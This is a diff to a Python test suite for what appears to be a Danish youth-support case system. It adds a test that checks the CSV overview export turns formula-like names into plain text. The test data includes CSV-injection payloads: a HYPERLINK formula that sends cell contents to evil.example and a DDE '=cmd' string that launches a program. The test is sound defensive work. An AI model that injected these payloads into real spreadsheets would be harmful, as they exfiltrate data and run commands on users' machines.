@@ -16,7 +16,7 @@ from app.models.audit import AuditAction, AuditEvent
 from app.models.network import NetworkMember, NetworkRole, Person, PersonKind, Sector
 from app.models.user import Role, User
 from app.models.youth import SupportExpected, Youth
-from app.services import youths
+from app.services import auth, youths
 from app.settings import Settings
 from tests.conftest import login, make_user
 
@@ -200,3 +200,23 @@ def test_inquiries_past_their_48_hours_are_listed(
     payload = client.get("/api/v1/overview").json()
     assert payload["late_inquiries"] == 1
     assert "Venter Overblik" in client.get("/overview").text
+
+
+def test_names_a_spreadsheet_would_run_as_formulas_come_out_of_the_csv_as_text(
+    client: TestClient, session: Session
+) -> None:
+    coordinator = make_user(session, Role.COORDINATOR, "koord")
+    bearer = {"Authorization": f"Bearer {auth.issue_api_token(session, coordinator)}"}
+    names = ['=HYPERLINK("http://evil.example/?x="&A1;"Klik")', "=cmd|' /C calc'!A0",
+             "@SUM(1+1)", "+1+1", "-2+3", "＝1+1"]
+    for day, name in enumerate(names, start=1):
+        created = client.post("/api/v1/youths", headers=bearer, json={
+            "first_name": name, "last_name": "Overblik", "birth_date": f"2008-12-{day:02}",
+            "birth_date_reason": "Ingen CPR-nummer endnu", "adult_support_expected": "yes"})
+        assert created.status_code == 201, created.text
+    client = _client(client, "koord")
+
+    response = client.get("/overview.csv?month=2026-12")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert sorted(row[1] for row in rows[1:]) == sorted(f"'{name} Overblik" for name in names)
+    assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for row in rows for cell in row)
